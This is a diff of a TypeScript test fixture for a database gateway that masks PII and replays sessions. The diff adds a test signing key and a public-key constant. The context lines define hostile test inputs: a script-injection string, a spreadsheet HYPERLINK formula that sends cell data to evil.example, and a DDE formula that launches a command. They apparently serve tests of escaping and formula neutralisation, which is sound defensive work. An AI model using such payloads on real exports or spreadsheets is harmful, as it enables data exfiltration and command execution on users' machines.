@@ -4,9 +4,9 @@
 // customers.email, so the PII read comes back masked. Plus one session appended straight to the
 // log in the shape the masking step records (shared/masking/types.ts MaskDecision), with values
 // fixed here, so the tests can name exactly what a replay must show.
-import { createHash } from 'node:crypto';
+import { createHash, createPublicKey } from 'node:crypto';
 import type { SessionLog } from '../../shared/ports.ts';
-import { startTestGateway, TEST_AUDIENCE, type TestGateway } from '../helpers/gateway.ts';
+import { startTestGateway, TEST_AUDIENCE, TEST_SIGNING_KEY, type TestGateway } from '../helpers/gateway.ts';
 
 export const BOT = 'review-bot@acme-prod.iam.gserviceaccount.com';
 export const DBA = 'alice@acme.com';
@@ -15,6 +15,8 @@ export const HOSTILE_SQL = `SELECT '</script><script>alert(1)</script>' AS x, '<
 export const FORMULA_SQL = `-- =HYPERLINK("http://evil.example/?"&A1)\nSELECT 1 AS one`;
 export const FORMULA_MODEL = `=cmd|' /C calc'!A0`;
 export const RAW_EMAIL = 'ada.lovelace@example.com';
+/** The approval desk's public key in these tests: what an export records and verify checks votes with. */
+export const DESK_PUBLIC_KEY = createPublicKey(TEST_SIGNING_KEY).export({ type: 'spki', format: 'pem' }).toString();
 
 const policy = (issuer: string) => `version: 1
 issuers:
